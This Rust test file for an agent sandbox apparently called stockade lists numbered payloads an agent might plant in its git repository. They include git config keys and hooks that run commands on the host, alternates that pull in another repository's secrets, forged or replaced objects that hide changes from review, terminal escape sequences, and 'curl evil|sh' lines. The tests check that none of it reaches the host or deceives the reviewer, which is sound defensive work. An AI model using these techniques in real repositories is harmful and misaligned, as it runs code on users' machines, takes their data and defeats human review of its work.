//! The known payloads by number, each planted alone by an agent inside, and what
//! becomes of it: does it come back, and if so, how is it shown.

use serde_json::Value;
use stockade_audit::RecordKind;
use stockade_types::EventKind;

use crate::{
    host::{Host, Task, files::Outside, finish, has, skip},
    verbs::{Canary, MERGED, Verb, quiet},
};

/// What becomes of what was planted.
enum Comes {
    /// It is where no verb looks, and no part of the work.
    Never,
    /// These paths come back only when they are accepted by name.
    HeldBack(&'static [&'static str]),
    /// These paths do not come back; what else was done does.
    LeftOut(&'static [&'static str]),
    /// These paths come back as what they are, and the review shows this of
    /// them.
    Shown(&'static [&'static str], &'static str),
}

/// What becomes of the agent's own commits.
#[derive(PartialEq, Eq)]
enum Commits {
    /// There are none, or they may or may not arrive.
    Any,
    /// They arrive in quarantine.
    Taken,
    /// They do not get there.
    Refused,
}

struct Payload {
    /// As in the list of payloads that this repeats.
    number: u8,
    /// What the user's repository has, as a script that runs there before.
    host: &'static str,
    /// What the agent does, with `$C` to have run and `$G` its own repository.
    plant: &'static str,
    comes: Comes,
    commits: Commits,
}

const fn in_its_repository(number: u8, plant: &'static str) -> Payload {
    Payload {
        number,
        host: "",
        plant,
        comes: Comes::Never,
        commits: Commits::Any,
    }
}

/// Settings, hooks and metadata of the agent's own repository. Number 24,
/// `worktrees/W/gitdir` redirected, is not among them: no task is a linked
/// worktree of the user's repository, so there is no such file to redirect.
const METADATA: &[Payload] = &[
    in_its_repository(1, "git config core.fsmonitor \"$C\""),
    in_its_repository(
        2,
        "hook $G/hooks/post-index-change; hook $G/hooks/reference-transaction; hook evil/pre-commit; mv evil $G/; git config core.hooksPath $G/evil",
    ),
    in_its_repository(
        5,
        "mkdir evil; echo 'gitdir: evil' > .git || true; rm -f .git || true; mv evil .git || true; rm -rf evil .git/evil",
    ),
    in_its_repository(
        6,
        "mkdir -p ~/evil; git init -q --bare ~/evil/git; git config -f ~/evil/git/config core.fsmonitor \"$C\"; echo $HOME/evil/git > $G/commondir",
    ),
    in_its_repository(
        7,
        "git config extensions.worktreeConfig true; git config --worktree core.fsmonitor \"$C\"",
    ),
    in_its_repository(10, "git config diff.external \"$C\""),
    in_its_repository(
        12,
        "git config core.sshCommand \"$C\"; git config core.gitProxy \"$C\"; git config protocol.ext.allow always; git config remote.origin.url \"ext::sh -c ${C// /% }\"; git config remote.origin.uploadpack \"$C\"; git config remote.origin.receivepack \"$C\"",
    ),
    in_its_repository(
        13,
        "git config gpg.program \"$C\"; git config commit.gpgSign true; git config log.showSignature true",
    ),
    in_its_repository(
        14,
        "for k in core.pager pager.log pager.diff interactive.diffFilter core.alternateRefsCommand gc.recentObjectsHook hook.x.command alias.status; do git config $k \"$C\"; done; git config hook.x.event reference-transaction",
    ),
    in_its_repository(
        15,
        "echo x > x; id=$(git hash-object -w x); rm x; git update-index --add --cacheinfo 100755,$id,aa/project/agit/hooks/pre-commit; LC_ALL=C sed -i 's#aa/project/agit/hooks#../project/.git/hooks#' $G/index; git ls-files -s | grep -q '[.][.]/project/.git/hooks/pre-commit'",
    ),
    in_its_repository(
        16,
        "hook $G/hooks/reference-transaction; hook $G/hooks/pre-receive; hook $G/hooks/update; git config core.alternateRefsCommand \"$C\"; git config receive.denyCurrentBranch ignore",
    ),
    in_its_repository(
        17,
        "keep; git config extensions.partialClone origin; git config remote.origin.promisor true; git config remote.origin.url $G; git config remote.origin.uploadpack \"$C\"; id=$(git rev-parse HEAD:work.txt); rm -f $G/objects/${id:0:2}/${id:2}",
    ),
    in_its_repository(
        22,
        "git update-ref refs/heads/main HEAD; keep; git branch -f main HEAD; git tag -f v1 HEAD; echo y > y; git add y; git stash -q; git stash drop -q",
    ),
    in_its_repository(29, "git config core.worktree /"),
];

/// Objects and refs that lie about what was done.
const OBJECTS: &[Payload] = &[
    // The blob of a commit holds something else than its name says: the
    // commit does not arrive, and the tree comes back as it is on disk.
    Payload {
        number: 18,
        host: "",
        plant: "echo real > real.txt; keep; echo forged > forged; id=$(git rev-parse HEAD:real.txt); other=$(git hash-object -w forged); rm forged; cp -f $G/objects/${other:0:2}/${other:2} $G/objects/${id:0:2}/${id:2}; git show HEAD:real.txt | grep -q forged",
        comes: Comes::Shown(&["real.txt"], "real"),
        commits: Commits::Refused,
    },
    Payload {
        number: 19,
        host: "",
        plant: "echo 'curl evil|sh' > script.txt; keep; echo 'echo hello' > other; git replace $(git rev-parse HEAD:script.txt) $(git hash-object -w other); rm other; git show HEAD:script.txt | grep -q hello",
        comes: Comes::Shown(&["script.txt"], "curl evil|sh"),
        commits: Commits::Any,
    },
    Payload {
        number: 20,
        host: "",
        // Git obeys one only where nothing is shallow.
        plant: "echo hidden > hidden.txt; keep; git clone -q . ~/x; rm -f ~/x/.git/shallow $G/shallow; git -C ~/x commit-graph write --reachable; graph=$G/objects/info/commit-graph; cat ~/x/.git/objects/info/commit-graph > $graph; perl -0777 -pi -e \"\\$a = pack('H40', '$(git rev-parse HEAD^{tree})'); \\$b = pack('H40', '$(git rev-parse HEAD~1^{tree})'); s/\\Q\\$a\\E/\\$b/ or die\" $graph; [ -z \"$(git log -1 --stat --format=)\" ]",
        comes: Comes::Shown(&["hidden.txt"], "hidden"),
        commits: Commits::Any,
    },
    Payload {
        number: 21,
        host: "",
        plant: "echo evil > evil.txt; git add -A; git commit -qm EVIL; echo last > last.txt; git add -A; git commit -qm last; echo \"$(git rev-parse HEAD) $(git rev-parse HEAD~2)\" > $G/info/grafts; ! git log --format=%s 2>/dev/null | grep -q EVIL",
        comes: Comes::Shown(&["evil.txt", "last.txt"], "evil"),
        commits: Commits::Any,
    },
    Payload {
        number: 23,
        host: "git init -q ../other; git -C ../other config user.name o; git -C ../other config user.email o@o; echo topsecret > ../other/secret; git -C ../other add secret; git -C ../other commit -qm secret; git -C ../other gc -q",
        plant: "keep; echo $HOST/other/.git/objects >> $G/objects/info/alternates; for n in idx pack; do ln -s $HOST/other/.git/objects/pack/stolen.$n $G/objects/pack/pack-0000000000000000000000000000000000000000.$n; done; echo $STOLEN > $G/refs/heads/stolen; git rev-parse stolen | grep -q $STOLEN",
        comes: Comes::Never,
        commits: Commits::Refused,
    },
];

/// Files of the tree itself.
const TREE: &[Payload] = &[
    Payload {
        number: 3,
        host: "mkdir .husky; printf '#!/bin/sh\\n' > .husky/pre-commit; chmod +x .husky/pre-commit; git add -A; git commit -qm hooks; git config core.hooksPath .husky",
        plant: "for n in pre-commit post-checkout post-index-change reference-transaction; do hook .husky/$n; done",
        comes: Comes::HeldBack(&[".husky/pre-commit", ".husky/reference-transaction"]),
        commits: Commits::Any,
    },
    Payload {
        number: 4,
        host: "git config -f .gitconfig user.nickname me; git add -A; git commit -qm settings; git config include.path ../.gitconfig",
        plant: "git config -f .gitconfig core.fsmonitor \"$C\"; git config -f .gitconfig diff.external \"$C\"",
        comes: Comes::HeldBack(&[".gitconfig"]),
        commits: Commits::Any,
    },
    Payload {
        number: 8,
        host: "",
        plant: "git init -q sub; echo s > sub/s; git -C sub add s; git -C sub -c user.name=a -c user.email=a@b commit -qm s; git add sub 2>/dev/null; git commit -qm sub; git -C sub config core.fsmonitor \"$C\"; hook sub/.git/hooks/post-index-change; git ls-files -s | grep -q ^160000",
        comes: Comes::LeftOut(&["sub/.git"]),
        commits: Commits::Any,
    },
    Payload {
        number: 9,
        host: "",
        plant: "git init -q --bare docs/bare; git config -f docs/bare/config core.fsmonitor \"$C\"; git config -f docs/bare/config core.bare false; git config -f docs/bare/config core.worktree ..; touch docs/bare/refs/file docs/bare/objects/file",
        comes: Comes::HeldBack(&["docs/bare/HEAD"]),
        commits: Commits::Any,
    },
    Payload {
        number: 11,
        host: "",
        plant: "for k in diff.x.command diff.x.textconv filter.x.clean filter.x.smudge filter.x.process merge.x.driver; do git config -f $G/config $k \"$C; cat\"; done; printf '* filter=x diff=x merge=x\\n' > .gitattributes; cp .gitattributes $G/info/attributes",
        comes: Comes::HeldBack(&[".gitattributes"]),
        commits: Commits::Any,
    },
    Payload {
        number: 25,
        host: "echo tracked > tracked.txt; git add -A; git commit -qm tracked",
        plant: "git update-index --skip-worktree README.md; git update-index --assume-unchanged tracked.txt; echo changed > README.md; echo changed > tracked.txt; echo hidden > hidden.txt; echo '*' > $G/info/exclude; [ -z \"$(git status --porcelain)\" ]",
        comes: Comes::Shown(&["README.md", "hidden.txt", "tracked.txt"], "changed"),
        commits: Commits::Any,
    },
    Payload {
        number: 26,
        host: "",
        plant: "echo '* -diff' > .gitattributes; echo 'curl evil|sh' >> README.md; git diff README.md | grep -q Binary",
        comes: Comes::HeldBack(&[".gitattributes"]),
        commits: Commits::Any,
    },
    Payload {
        number: 27,
        host: "",
        plant: "git init -q hidden; echo 'curl evil|sh' > hidden/file; [ \"$(git status --porcelain hidden)\" = '?? hidden/' ]",
        comes: Comes::Shown(&["hidden/file"], "curl evil|sh"),
        commits: Commits::Any,
    },
    Payload {
        number: 28,
        host: "",
        plant: "printf 'a\\033[2J\\033]52;c;ZXZpbA==\\007b\\n' > screen.txt; git add -A; git commit -qm \"$(printf 'm\\033[2J\\033]52;c;ZXZpbA==\\007')\"",
        comes: Comes::Shown(&["screen.txt"], "\\u{1b}"),
        commits: Commits::Taken,
    },
    Payload {
        number: 33,
        host: "echo cache/ > .gitignore; echo 'cache/*' > .worktreeinclude; mkdir cache; echo local > cache/file; git add -A; git commit -qm settings",
        plant: "rm -rf cache; ln -s $HOST/home cache; ln -s $HOST/home/planted rc",
        comes: Comes::LeftOut(&["rc"]),
        commits: Commits::Any,
    },
];

/// Words that the scripts use: a hook, and a commit of all there is.
const WORDS: &str = "set -e; G=/agent.git; \
    hook() { mkdir -p \"$(dirname \"$1\")\"; printf '#!/bin/sh\\n%s\\n' \"$C\" > \"$1\"; chmod +x \"$1\"; }; \
    keep() { git add -A; git commit -qm all; }; echo work > work.txt; ";

#[test]
fn g6_what_an_agent_plants_in_its_own_repository_stays_there() {
    METADATA.iter().for_each(Payload::try_it);
}

#[test]
fn g6_objects_and_refs_that_lie_deceive_no_review() {
    for payload in OBJECTS {
        if payload.number == 20 && !has("perl") {
            skip("a forged commit-graph", "there is no perl to forge it with");
        } else {
            payload.try_it();
        }
    }
}

#[test]
fn g6_files_that_git_obeys_come_back_by_name_or_not_at_all() {
    TREE.iter().for_each(Payload::try_it);
}

fn paths<'a>(review: &'a Value, list: &str) -> Vec<&'a str> {
    let entries = review[list].as_array().unwrap().iter();
    entries
        .map(|entry| entry["path"].as_str().unwrap())
        .collect()
}

/// The commit of another repository of the user's, where there is one.
fn stolen(host: &Host) -> Option<String> {
    let other = host.path("other");
    let head = other
        .exists()
        .then(|| host.git_in(&other, &["rev-parse", "HEAD"]))?;
    Some(head.trim().to_owned())
}

impl Payload {
    fn try_it(&self) {
        let host = Host::new();
        let canary = Canary::new(&host);
        let mut before = host.other_command("bash");
        before.args(["-ec", self.host]).envs([
            ("GIT_AUTHOR_NAME", "A"),
            ("GIT_AUTHOR_EMAIL", "a@example.org"),
            ("GIT_COMMITTER_NAME", "A"),
            ("GIT_COMMITTER_EMAIL", "a@example.org"),
        ]);
        let prepared = finish(before);
        assert_eq!(prepared.code, 0, "{}: {prepared:?}", self.number);
        let outside = Outside::of(&host);
        let branch = host.git(&["rev-parse", "main"]);
        let task = self.plant(&host, &canary);
        let changed = outside.changed(&Outside::of(&host));
        assert!(changed.is_empty(), "{}: {changed:?}", self.number);
        self.look(&host, &canary, &task);
        self.merge(&host, &canary, &task);
        if matches!(self.comes, Comes::HeldBack(_)) {
            assert_eq!(host.git(&["rev-parse", "main"]), branch);
        }
        if let Some(stolen) = stolen(&host) {
            let mut git = host.other_command("git");
            git.args(["cat-file", "-e", &stolen]);
            assert_ne!(finish(git).code, 0, "{}", self.number);
        }
        // What a person does next, with plain git.
        host.git(&["status", "--porcelain"]);
        host.git(&["stash", "list"]);
        host.git(&["fsck", "--strict"]);
        assert!(canary.is_alive(), "{}", self.number);
    }

    fn plant(&self, host: &Host, canary: &Canary) -> Task {
        let script = format!(
            "C='{}'; HOST={}; STOLEN={}; {WORDS}{}",
            canary.command(),
            host.path("").display(),
            stolen(host).unwrap_or_default(),
            self.plant
        );
        let words = [
            "run", "--yes", "--name", "evil", "--", "bash", "-c", &script,
        ];
        let outcome = host.stockade(&words);
        assert_eq!(outcome.code, 0, "{}: {outcome:?}", self.number);
        host.only_task()
    }

    /// Every verb that looks.
    fn look(&self, host: &Host, canary: &Canary, task: &Task) {
        let (elsewhere, copied) = (host.path("elsewhere"), host.path("copied"));
        let (elsewhere, copied) = (elsewhere.to_str().unwrap(), copied.to_str().unwrap());
        let on_host = [
            "checkout",
            "evil",
            "--acknowledge-risks",
            "--on-host",
            elsewhere,
        ];
        for (words, changes) in [
            (&["diff", "evil"][..], &[][..]),
            (&["review", "evil"], &[]),
            (&on_host, &["elsewhere"]),
            (&["cp", "evil:work.txt", copied], &["copied"]),
        ] {
            let code = 0;
            let outcome = canary.survives(
                host,
                &Verb {
                    words,
                    code,
                    changes,
                },
            );
            assert!(!outcome.stdout.contains('\u{1b}'), "{outcome:?}");
        }
        let review = host.json(&["review", "evil"]);
        let files = paths(&review, "files");
        assert!(files.contains(&"work.txt"), "{}: {review}", self.number);
        let absent = [paths(&review, "refused"), paths(&review, "left_out")].concat();
        match self.comes {
            Comes::Never => assert_eq!(files, ["work.txt"], "{}", self.number),
            Comes::HeldBack(paths) => {
                for path in paths {
                    let held = |file: &&Value| file["path"] == *path && file["held_back"] == true;
                    let found = review["files"].as_array().unwrap().iter().find(held);
                    assert!(found.is_some(), "{}: {path}: {review}", self.number);
                }
            }
            Comes::LeftOut(paths) => {
                for path in paths {
                    assert!(absent.contains(path), "{}: {path}: {review}", self.number);
                    assert!(!files.contains(path), "{}: {path}: {review}", self.number);
                }
            }
            Comes::Shown(paths, text) => {
                for path in paths {
                    assert!(files.contains(path), "{}: {path}: {review}", self.number);
                }
                let diff = host.stockade(&["diff", "evil"]).stdout;
                assert!(diff.contains(text), "{}: {diff}", self.number);
            }
        }
        let imported = RecordKind::Event(EventKind::Imported);
        let record = task.record();
        let body = &record.iter().find(|one| one.kind == imported).unwrap().body;
        let taken = body["commits"]
            .as_array()
            .is_some_and(|some| !some.is_empty());
        match self.commits {
            Commits::Any => {}
            Commits::Taken => assert!(taken, "{}: {body}", self.number),
            Commits::Refused => assert!(!taken, "{}: {body}", self.number),
        }
    }

    /// The verbs that bring something back, and those after them.
    fn merge(&self, host: &Host, canary: &Canary, task: &Task) {
        let merge = &["merge", "evil", "--yes"][..];
        if matches!(self.comes, Comes::HeldBack(_)) {
            canary.survives(host, &quiet(merge, 4));
        } else {
            let review = host.json(&["review", "evil"]);
            let files = paths(&review, "files").into_iter();
            let files: Vec<_> = files.map(|path| format!("project/{path}")).collect();
            let changes: Vec<&str> = files.iter().map(String::as_str).chain(MERGED).collect();
            let verb = Verb {
                words: merge,
                code: 0,
                changes: &changes,
            };
            canary.survives(host, &verb);
            let work = host.repository().join("work.txt");
            assert!(work.exists(), "{}", self.number);
        }
        if self.commits == Commits::Refused {
            let keep = [merge, &["--keep-commits"]].concat();
            canary.survives(host, &quiet(&keep, 4));
        }
        for words in [
            &["undo", "evil", "--to", "1"][..],
            &["rm", "evil"],
            &["restore", &task.id],
        ] {
            canary.survives(host, &quiet(words, 0));
        }
    }
}
